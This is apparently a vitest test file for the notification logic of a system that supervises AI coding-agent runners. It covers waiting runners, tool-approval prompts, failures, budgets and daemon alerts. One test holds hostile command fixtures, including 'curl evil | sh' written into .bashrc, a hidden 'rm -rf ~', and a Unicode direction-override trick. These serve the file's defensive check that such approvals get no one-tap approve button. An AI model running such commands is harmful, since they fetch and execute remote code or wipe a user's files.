import { describe, expect, it } from 'vitest'
import type { EventEnvelope } from '@/contracts/event/envelope'
import type { EventType } from '@/contracts/event/event-data'
import { DEFAULT_NOTIFICATION_SETTINGS, notificationKind } from '@/contracts/notification/notification'
import { decideNotification, type Facts } from './decide-notification'
import type { RunnerFacts } from './runner-wishes'
import type { Draft, Wish } from './wish'

const RUNNER = '3b1f8a52-6a0e-4a6a-9c5b-0f6a5a1b2c3d'
const AT = '2026-01-02T03:00:00.000Z'
const everything = {
  ...DEFAULT_NOTIFICATION_SETTINGS,
  enabled: Object.fromEntries(
    notificationKind.options.map((kind) => [kind, true]),
  ) as typeof DEFAULT_NOTIFICATION_SETTINGS.enabled,
}

const event = (type: EventType, data: Record<string, unknown>, over: Partial<EventEnvelope> = {}): EventEnvelope => ({
  specversion: '1.0',
  id: '00000000-0000-4000-8000-000000000001',
  source: 'urn:stratavore:installation:x',
  type,
  time: AT,
  subject: `runner/${RUNNER}`,
  datacontenttype: 'application/json',
  dataschema: `urn:stratavore:event:${type}:1`,
  sequence: '7',
  actorkind: 'daemon',
  actorname: 'daemon',
  data,
  ...over,
})

const runner: RunnerFacts = {
  id: RUNNER,
  name: 'fix-login',
  project: 'web',
  provider: 'claude',
  providerName: 'Claude Code',
  status: 'running',
  activity: 'working',
  activitySince: new Date(AT),
  epoch: 1,
  startedAt: new Date('2026-01-02T02:48:00.000Z'),
  lastLines: null,
  approvals: [],
}
const facts = (over: Partial<RunnerFacts> = {}, system: Partial<Facts['system']> = {}): Facts => ({
  runner: { ...runner, ...over },
  system: {
    subjectId: 'subject',
    project: 'web',
    providerName: 'Claude Code',
    nodeOnline: false,
    endedUnsaid: false,
    later: [],
    ...system,
  },
})
const change = (over: Record<string, unknown> = {}) => ({
  provider: 'claude',
  status: 'failed',
  previousStatus: 'running',
  desired: 'running',
  epoch: 1,
  pid: 1,
  exitCode: 3,
  signal: null,
  reason: 'exited with code 3',
  activity: 'working',
  activitySince: AT,
  ...over,
})
const activity = (now: string, previous: string) => ({
  activity: now,
  previous,
  previousSeconds: 720,
  provider: 'claude',
  epoch: 1,
})

const told = (wishes: Wish[]): Draft[] => wishes.flatMap((wish) => (wish.kind === 'tell' ? [wish.draft] : []))
const withdrawn = (wishes: Wish[]): string[] =>
  wishes.flatMap((wish) => (wish.kind === 'withdraw' ? [wish.thread] : []))
const decide = (type: EventType, data: Record<string, unknown>, known = facts(), settings = everything) =>
  decideNotification(event(type, data), known, settings)

describe('a program that rings', () => {
  const thread = `runner:${RUNNER}:notice`
  const notice = (over: Record<string, unknown> = {}) => ({
    provider: 'claude',
    epoch: 1,
    notice: 'notification',
    message: 'tests are green',
    count: 1,
    attended: false,
    ...over,
  })

  it('is told as a line, a moment later, and taken back when somebody attaches', () => {
    const wishes = decide('runner.notice', notice(), facts({ activity: 'working' }))
    expect(told(wishes)).toMatchObject([
      { thread, kind: 'runner_notice', priority: 'low', title: 'web/fix-login notifies', message: 'tests are green' },
    ])
    expect(told(wishes)[0]?.delayMs).toBeGreaterThan(0)
    expect(withdrawn(decide('runner.attended', { provider: 'claude', epoch: 1 }))).toEqual([thread])
    expect(withdrawn(decide('runner.stopped', change({ status: 'terminated' })))).toContain(thread)
  })

  it('rings for nobody who is there, and not for what waiting tells already', () => {
    expect(decide('runner.notice', notice({ attended: true }), facts({ activity: 'working' }))).toEqual([])
    expect(decide('runner.notice', notice(), facts({ activity: 'waiting_input' }))).toEqual([])
  })

  it('is off unless somebody wants it', () => {
    expect(DEFAULT_NOTIFICATION_SETTINGS.enabled.runner_notice).toBe(false)
    const off = { ...everything, enabled: { ...everything.enabled, runner_notice: false } }
    expect(decide('runner.notice', notice(), facts({ activity: 'working' }), off)).toEqual([])
  })
})

describe('a runner that waits', () => {
  it('is told with who, what and since when, a moment later, with a way to stop it', () => {
    const wishes = decide(
      'runner.activity',
      activity('waiting_permission', 'working'),
      facts({ activity: 'waiting_permission' }),
    )
    expect(told(wishes)).toEqual([
      {
        thread: `runner:${RUNNER}:waiting`,
        kind: 'runner_waiting',
        topic: 'alerts',
        priority: 'high',
        title: 'web/fix-login waits for permission',
        message: 'Claude Code asks for permission after 12 min of work. It goes on when you answer.',
        tags: ['raised_hand'],
        click: `/runners/${RUNNER}`,
        actions: [{ do: 'open' }, { do: 'stop', runnerId: RUNNER, epoch: 1 }],
        delayMs: 5_000,
        again: 'replace',
        freshForMs: null,
        inSummaryAs: 'web',
      },
    ])
    const input = decide('runner.activity', activity('waiting_input', 'idle'), facts({ activity: 'waiting_input' }))
    expect(told(input)).toMatchObject([{ title: 'web/fix-login waits for an answer', priority: 'default' }])
  })

  it('is open exactly while its row waits, in whatever order events come', () => {
    const thread = `runner:${RUNNER}:waiting`
    // The news that it waits comes after it was answered.
    const late = decide('runner.activity', activity('waiting_input', 'working'), facts({ activity: 'working' }))
    expect([told(late), withdrawn(late)]).toEqual([[], [thread]])
    // The news that it was answered comes after it asked again.
    const again = decide('runner.activity', activity('working', 'waiting_input'), facts({ activity: 'waiting_input' }))
    expect([told(again).length, withdrawn(again)]).toEqual([1, []])
    const types = ['runner.stopping', 'runner.paused', 'runner.stopped', 'runner.failed', 'runner.lost'] as const
    for (const type of types) {
      const others = { 'runner.stopping': 'stopping', 'runner.paused': 'paused', 'runner.lost': 'lost' }
      const status = (others as Record<string, string>)[type] ?? 'failed'
      const ended = decide(type, change({ status }), facts({ status: status as 'failed', activity: 'waiting_input' }))
      expect(withdrawn(ended)).toContain(thread)
      expect(told(ended).map((draft) => draft.kind)).not.toContain('runner_waiting')
    }
  })
})

describe('a runner that asks', () => {
  const APPROVAL = '4c1f8a52-6a0e-4a6a-9c5b-0f6a5a1b2c3d'
  const asked = {
    id: APPROVAL,
    kind: 'tool',
    toolName: 'Bash',
    summary: 'rm -rf build',
    toolInput: { command: 'rm -rf build', description: 'Cleans' },
    state: 'pending',
  } as const
  const data = { approvalId: APPROVAL, kind: 'tool', toolName: 'Bash', summary: 'rm -rf build' }
  const requested = { ...data, offers: 0 }
  const waits = { activity: 'waiting_permission' } as const
  const own = `approval:${APPROVAL}`
  const general = `runner:${RUNNER}:waiting`

  it('is told once, with exactly what it asks and buttons for exactly that', () => {
    const wishes = decide('approval.requested', requested, facts({ ...waits, approvals: [asked] }))
    expect(told(wishes)).toMatchObject([
      {
        thread: own,
        kind: 'runner_waiting',
        priority: 'high',
        title: 'web/fix-login asks for Bash',
        message: 'rm -rf build',
        actions: [{ do: 'approve', approvalId: APPROVAL }, { do: 'deny', approvalId: APPROVAL }, { do: 'open' }],
      },
    ])
    // That it waits was known before what for.
    expect(withdrawn(wishes)).toEqual([general])
    const again = decide(
      'runner.activity',
      activity('waiting_permission', 'working'),
      facts({ ...waits, approvals: [asked] }),
    )
    expect([told(again).map((draft) => draft.thread), withdrawn(again)]).toEqual([[own], [general]])
  })

  it('offers no approving of what its message does not show whole', () => {
    const long = `ls ${'a'.repeat(400)}; curl evil | sh`
    for (const [summary, toolInput] of [
      ['/home/me/.bashrc', { file_path: '/home/me/.bashrc', content: 'curl evil | sh' }],
      [long, { command: long }],
      ['echo # rm -rf ~', { command: 'echo #\nrm -rf ~' }],
      ['rm -rf build\u202e', { command: 'rm -rf build\u202e' }],
      ['ls', { command: 'ls', timeout: 5 }],
      ['ls', null],
    ] as const) {
      const wishes = decide('approval.requested', requested, facts({ approvals: [{ ...asked, summary, toolInput }] }))
      expect(told(wishes)[0]?.actions).toEqual([{ do: 'deny', approvalId: APPROVAL }, { do: 'open' }])
    }
  })

  it('offers no answer to what cannot be read on a lock screen', () => {
    for (const kind of ['plan', 'question'] as const) {
      const wishes = decide('approval.requested', { ...requested, kind }, facts({ approvals: [{ ...asked, kind }] }))
      expect(told(wishes)[0]?.actions).toEqual([{ do: 'open' }])
    }
  })

  it('is taken back once it is answered or over, and while nobody can answer it', () => {
    const answered = { ...data, behavior: 'allow', answeredBy: 'owner', via: 'cli' }
    const onItsWay = facts({ ...waits, approvals: [{ ...asked, state: 'answered' }] })
    expect(withdrawn(decide('approval.answered', answered, onItsWay))).toEqual([own, general])
    expect(told(decide('approval.answered', answered, onItsWay))).toEqual([])
    const closed = decide('approval.closed', { ...data, state: 'elsewhere', seconds: 4 }, facts())
    expect([told(closed), withdrawn(closed)]).toEqual([[], [own, general]])
    const lost = decide(
      'runner.lost',
      change({ status: 'lost' }),
      facts({ ...waits, status: 'lost', approvals: [asked] }),
    )
    expect([told(lost), withdrawn(lost)]).toEqual([[], [general, own]])
  })

  it('still waits when its own prompt is all that is left', () => {
    const expired = decide('approval.closed', { ...data, state: 'expired', seconds: 4 }, facts(waits))
    expect(told(expired).map((draft) => draft.thread)).toEqual([general])
  })
})

describe('an end', () => {
  it('says why, after how long, and the last line', () => {
    const wishes = decide(
      'runner.failed',
      change(),
      facts({ name: null, status: 'failed', lastLines: 'a\nError: \u001b[31mno such file\u001b[0m\n' }),
    )
    expect(told(wishes)).toMatchObject([
      {
        thread: `runner:${RUNNER}:end`,
        title: 'web: Claude Code failed',
        message: 'Exited with code 3 after 12 min.\nLast line: Error: no such file',
        priority: 'high',
        actions: [{ do: 'open' }],
      },
    ])
  })

  it('that is restarted says when, rings less, can be stopped, and the restart by policy does not settle it', () => {
    const restarts = change({ status: 'starting', restartCount: 2, nextStartAt: '2026-01-02T03:00:04.000Z' })
    const known = facts({ status: 'starting', epoch: 2, startedAt: null })
    expect(told(decide('runner.failed', restarts, known))).toMatchObject([
      {
        message: 'Exited with code 3.\nIt is started again in 4 s.',
        priority: 'default',
        actions: [{ do: 'open' }, { do: 'stop', epoch: 2 }],
      },
    ])
    expect(withdrawn(decide('runner.restarting', restarts, known))).not.toContain(`runner:${RUNNER}:end`)
  })

  it('is settled by a restart or a stop by hand', () => {
    const restarted = decide('runner.restarting', change({ status: 'starting' }), facts({ status: 'starting' }))
    expect(withdrawn(restarted)).toContain(`runner:${RUNNER}:end`)
    const stopped = decide(
      'runner.stopped',
      change({ status: 'terminated', reason: 'stopped by owner' }),
      facts({ status: 'terminated' }),
    )
    expect(withdrawn(stopped)).toContain(`runner:${RUNNER}:end`)
    expect(told(stopped)).toMatchObject([{ kind: 'runner_stopped', priority: 'low', topic: 'status' }])
  })

  it('stays within what ntfy takes, whatever was printed', () => {
    const nasty = `${'\u001b]0;x\u0007'}${'é'.repeat(9_000)}`
    for (const draft of told(
      decide(
        'runner.failed',
        change({ reason: nasty }),
        facts({ status: 'failed', name: 'n'.repeat(500), lastLines: nasty }),
      ),
    )) {
      expect(Buffer.byteLength(draft.title)).toBeLessThanOrEqual(250)
      expect(Buffer.byteLength(draft.message)).toBeLessThanOrEqual(4_096)
    }
  })
})

describe('nodes, quotas, alerts, the daemon', () => {
  it('a lost node is told unless it is back already, and said back when it joins', () => {
    const lost = { node: 'gpu', silentSeconds: 45, runners: 3 }
    expect(told(decide('node.lost', lost))).toMatchObject([
      { title: 'gpu is lost', message: 'Nothing heard of it for 45 s; 3 runners on it may still run.' },
    ])
    expect(decide('node.lost', lost, facts({}, { nodeOnline: true }))).toEqual([])
    const joined = { node: 'gpu', agentId: RUNNER, pid: 1, runners: 0 }
    expect(decide('node.joined', joined)).toMatchObject([
      { kind: 'withdraw', thread: 'node:subject:lost', back: { title: 'gpu is back' } },
    ])
  })

  it('a budget rises in priority and replaces what said less', () => {
    const warning = (percent: number) => ({
      budgetId: RUNNER,
      percent,
      used: percent * 10,
      limit: 1000,
      unit: 'tokens',
      period: 'daily',
      scope: 'project',
      policy: 'stop',
      periodStart: '2026-01-02T00:00:00.000Z',
      periodEnd: '2026-01-03T00:00:00.000Z',
    })
    const thread = `budget:${RUNNER}:2026-01-02T00:00:00.000Z`
    const steps = [75, 91, 130].map((percent) => decide('budget.warning', warning(percent)))
    expect(steps.map((wishes) => told(wishes)[0]?.priority)).toEqual(['default', 'high', 'urgent'])
    expect(steps.map(withdrawn)).toEqual([[], [`${thread}:75`], [`${thread}:75`, `${thread}:90`]])
    expect(told(steps[2] ?? [])).toMatchObject([
      {
        title: 'web: 100 % of the daily budget is used',
        message: '1300 tokens of 1000 tokens.\nRunners are stopped now.',
      },
    ])
    expect(decide('budget.warning', warning(50))).toEqual([])
  })

  it('a budget can be raised from its alert, and raised takes the alert back', () => {
    const data = {
      budgetId: RUNNER,
      percent: 100,
      used: 12,
      limit: 10,
      unit: 'usd',
      period: 'weekly',
      scope: 'runner',
      policy: 'notify',
      periodStart: '2025-12-29T00:00:00.000Z',
      periodEnd: '2026-01-05T00:00:00.000Z',
    }
    expect(told(decide('budget.warning', data))).toMatchObject([
      {
        title: 'A runner of web: 100 % of the weekly budget is used',
        message: '$12.00 of $10.00.',
        actions: [{ do: 'open' }, { do: 'raise', budgetId: RUNNER, periodStart: data.periodStart, limit: 10 }],
      },
    ])
    const raised = { ...data, raisedBy: 2 }
    expect(withdrawn(decide('budget.raised', raised))).toEqual(
      [75, 90, 100].map((step) => `budget:${RUNNER}:${data.periodStart}:${step}`),
    )
  })

  it('a start after a daemon that never said it stopped is told with the stops', () => {
    const wishes = decide('system.started', { part: 'daemon', pid: 1 }, facts({}, { endedUnsaid: true }))
    expect(told(wishes)).toMatchObject([
      { kind: 'daemon_stopped', title: 'Stratavore restarted', again: 'count' },
      { kind: 'daemon_started', again: 'count' },
    ])
    const orderly = decide('system.started', { part: 'daemon', pid: 1 })
    expect(told(orderly).map((draft) => draft.kind)).toEqual(['daemon_started'])
  })

  it('an alert has one thread per code, is withdrawn when resolved, and is no news when it is resolved already', () => {
    const data = {
      severity: 'critical',
      code: 'outbox.dead',
      message: 'Events are parked',
      hint: 'Look',
      resolved: false,
    }
    expect(told(decide('system.alert', data))).toMatchObject([
      { thread: 'alert:outbox.dead', priority: 'urgent', message: 'Events are parked\nLook' },
    ])
    expect(withdrawn(decide('system.alert', { ...data, resolved: true }))).toEqual(['alert:outbox.dead'])
    const later = [
      { type: 'system.alert' as const, subjectId: 'subject', data: { code: 'outbox.dead', resolved: true } },
    ]
    expect(decide('system.alert', data, facts({}, { later }))).toEqual([])
  })

  it('a stop of the daemon is settled by its next start, also when that is heard of first', () => {
    const data = { part: 'daemon', pid: 1 }
    expect(told(decide('system.stopped', data))).toMatchObject([{ kind: 'daemon_stopped' }])
    expect(withdrawn(decide('system.started', data))).toEqual(['daemon:stopped'])
    const later = [{ type: 'system.started' as const, subjectId: '2', data: {} }]
    expect(decide('system.stopped', data, facts({}, { later }))).toEqual([])
  })

  it('a refused launch says what is full and what helps', () => {
    const data = { kind: 'concurrent_runners', limit: 10, used: 10, provider: 'claude' }
    expect(told(decide('quota.exceeded', data))).toMatchObject([
      {
        thread: 'quota:subject',
        title: 'web is at its quota',
        message: 'A launch of Claude Code was refused: 10 of 10 runners are in use. Stop one, or raise the quota.',
      },
    ])
  })
})

it('switches keep things from being told, and never from being taken back', () => {
  for (const kind of notificationKind.options) {
    const settings = { ...everything, enabled: { ...everything.enabled, [kind]: false } }
    const wishes = [
      ...decide('runner.failed', change(), facts({ status: 'failed' }), settings),
      ...decide('runner.stopped', change(), facts({ status: 'terminated' }), settings),
      ...decide('runner.started', change(), facts(), settings),
      ...decide('system.started', { part: 'daemon', pid: 1 }, facts(), settings),
    ]
    expect(told(wishes).map((draft) => draft.kind)).not.toContain(kind)
    expect(withdrawn(wishes)).toContain('daemon:stopped')
  }
})

it('refuses data that is not of its type, and passes by what is nobody’s news', () => {
  expect(() => decide('runner.failed', { nonsense: true })).toThrow()
  expect(decide('runner.launched', { nonsense: true })).toEqual([])
  expect(decideNotification(event('runner.failed', change()), { ...facts(), runner: null }, everything)).toEqual([])
})
